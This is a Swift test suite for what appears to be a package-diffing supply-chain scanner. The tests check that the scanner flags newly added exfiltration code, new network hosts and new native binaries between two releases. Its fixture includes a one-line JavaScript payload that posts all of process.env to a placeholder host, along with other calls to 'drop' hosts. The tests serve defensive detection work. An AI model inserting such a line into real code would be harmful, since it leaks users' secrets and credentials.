import SallyportAnalysis
import SallyportModel
import Testing

@Suite("The delta of code")
struct CodeDeltaTests {
    private static let library = "exports.add = (a, b) => a + b;\n"
    private static let post = "fetch('https://collect.example.invalid/', {body: JSON.stringify(process.env)});\n"

    @Test("names what an old file begins to do, with the place and how much it grew")
    func codeAdded() throws {
        let facts = delta(["index.js": Self.library], ["index.js": Self.library + Self.post])
        let added = facts.filter { $0.code == .deltaCodeAdded }
        #expect(added.contains { $0.detail.hasPrefix("chain.exfiltration: ") })
        let network = try #require(added.first { $0.detail.hasPrefix("capability.network: ") })
        #expect(network.place?.path == "package/index.js")
        #expect(network.place?.line == 2)
        #expect(network.detail.hasSuffix("(\(Self.post.utf8.count) bytes more)"))
        #expect(network.reach == .load)
    }

    @Test("says nothing of what the file did before, moved with it, or is only shipped")
    func codeSame() {
        let code = Self.library + Self.post
        #expect(codes(delta(["index.js": code], ["index.js": code + "exports.x = 1"])).isDisjoint(with: Self.news))
        let moved = delta(
            ["index.js": "require('./a-0a1b2c3d.js')", "a-0a1b2c3d.js": code],
            ["index.js": "require('./a-ffee9900.js')", "a-ffee9900.js": code + "exports.x = 1"]
        )
        #expect(codes(moved).isDisjoint(with: Self.news))
        let shipped = delta(["test/a.js": Self.library], ["test/a.js": Self.library + Self.post])
        #expect(codes(shipped).isDisjoint(with: Self.news))
    }

    @Test("of a new file names the chains, also where the package had one, and leaves the rest to the package")
    func newFile() {
        func added(_ before: [String: String]) -> [String] {
            let calling = ["index.js": "require('./a'); require('./b')\n", "b.js": Self.post + "exports.b = 1"]
            let facts = delta(before, before.merging(calling) { _, new in new })
            return facts.filter { $0.code == .deltaCodeAdded }.map(\.detail)
        }
        let chain = "chain.exfiltration: "
        for before in [["index.js": Self.library], ["index.js": "require('./a')", "a.js": Self.post]] {
            let details = added(before)
            #expect(details.count == 1 && details.allSatisfy { $0.hasPrefix(chain) && $0.hasSuffix("(new file)") })
        }
    }

    @Test("of a file that was there and only begins to run says what a new one would")
    func begins() {
        let before = ["index.js": Self.library, "test/a.js": Self.post]
        let facts = delta(before, before.merging(["index.js": "require('./test/a')"]) { _, new in new })
        #expect(facts.contains { $0.code == .deltaCodeAdded && $0.place?.path == "package/test/a.js" })
    }

    @Test("takes a file for an old one of another number only where that one is gone")
    func numbers() {
        let old = ["index.js": "require('./dist/1')", "dist/1.js": Self.post]
        let beside = old.merging([
            "index.js": "require('./dist/1'); require('./dist/99')", "dist/99.js": Self.post + "exports.x = 1",
        ]) {
            _,
            new in new
        }
        #expect(codes(delta(old, beside)).contains(.deltaCodeAdded))
        let instead = ["index.js": "require('./dist/99')", "dist/99.js": Self.post + "exports.x = 1"]
        #expect(!codes(delta(old, instead)).contains(.deltaCodeAdded))
    }

    @Test("tells a host at every file that begins to name it")
    func hostsOfFiles() {
        let call = "fetch('https://drop.example.invalid/')"
        let facts = delta(
            ["a.js": "fetch('/')", "index.js": "require('./a')"],
            ["a.js": call, "b.js": call, "index.js": "require('./a'); require('./b')"]
        )
        #expect(
            facts.filter { $0.code == .deltaHostAdded }.map { $0.place?.path } == ["package/a.js", "package/b.js"]
        )
    }

    @Test("what is only loaded and not used is no new capability")
    func means() {
        let before = Sample.report(wheel: Sample.wheel(["sample/__init__.py": "x = 1\n"]))
        let after = Sample.report(wheel: Sample.wheel(["sample/__init__.py": "import socket\nx = 1\n"]))
        let facts = Comparison.delta(from: before, to: after)
        #expect(codes(facts).contains(.deltaMeansAdded))
        #expect(!codes(facts).contains(.deltaCapabilityAdded))
    }

    @Test("is the same however many decoys fill the report")
    func decoys() {
        var before = ["index.js": (0..<90).map { "require('./d\($0)');" }.joined() + "require('./z');"]
        for index in 0..<90 { before["d\(index).js"] = Self.post }
        before["z.js"] = Self.library
        var after = before
        after["z.js"] = Self.library + Self.post
        let facts = delta(before, after).filter { $0.code == .deltaCodeAdded }
        #expect(facts.contains { $0.place?.path == "package/z.js" && $0.detail.hasPrefix("chain.exfiltration") })
    }

    @Test("names new hosts of code that runs, once, and no others")
    func hosts() {
        let before = ["index.js": "fetch('https://api.example.invalid/v1')"]
        let after = [
            "index.js":
                "fetch('https://API.example.invalid/v2'); fetch('https://user:pw@drop.example.invalid:8443/x?y');"
                + "fetch('http://192.0.2.9/'); fetch('http://127.0.0.1/'); fetch('http://localhost:3000/')",
            "test/a.js": "fetch('https://test.example.invalid/')",
        ]
        let facts = delta(before, after).filter { $0.code == .deltaHostAdded }
        #expect(facts.map(\.detail) == ["address 192.0.2.9", "drop.example.invalid"])
        #expect(facts.allSatisfy { $0.place?.path == "package/index.js" && $0.reach == .load })
    }

    @Test("of native files knows families: platforms, and libraries of many modules")
    func natives() {
        let elf = [UInt8]("\u{7F}ELF".utf8) + [UInt8](repeating: 0, count: 100)
        func added(_ before: [String], _ after: [String]) -> Bool {
            func release(_ paths: [String]) -> Report {
                Sample.report(Sample.npm([:], binaries: Dictionary(uniqueKeysWithValues: paths.map { ($0, elf) })))
            }
            return codes(Comparison.delta(from: release(before), to: release(before + after)))
                .contains(.deltaNativeAdded)
        }
        #expect(!added(["prebuilds/linux-x64/x.node"], ["prebuilds/linux-arm64/x.node"]))
        #expect(added(["prebuilds/linux-x64/x.node"], ["lib/hidden/x.node"]))
        #expect(added(["prebuilds/linux-x64/x.node"], ["prebuilds/linux-x64/y.node"]))
        #expect(!added(["lib/core/a.so", "lib/core/b.so", "lib/core/c.so"], ["lib/core/d.so"]))
        #expect(added(["lib/core/a.so", "lib/core/b.so"], ["lib/core/d.so"]))
        #expect(added(["lib/core/a.so", "lib/core/b.so", "lib/core/c.so"], ["tools/d.so"]))
        #expect(added(["tools/setup-x"], ["tools/setup-y"]))
    }

    @Test("says when a package is emptied", arguments: [(10, true), (400, false)])
    func emptied(linesLeft: Int, isEmptied: Bool) {
        let before = String(repeating: "exports.value = compute(1, 2);\n", count: 1_000)
        let after = String(repeating: "exports.value = 1\n", count: linesLeft)
        let facts = delta(["index.js": before], ["index.js": after])
        #expect(codes(facts).contains(.deltaEmptied) == isEmptied)
    }

    private static let news: Set<FactCode> = [.deltaCodeAdded, .deltaHostAdded, .deltaHidingAdded]

    private func codes(_ facts: [Fact]) -> Set<FactCode> { Set(facts.map(\.code)) }

    private func delta(_ before: [String: String], _ after: [String: String]) -> [Fact] {
        Comparison.delta(from: Sample.report(Sample.npm(before)), to: Sample.report(Sample.npm(after)))
    }
}
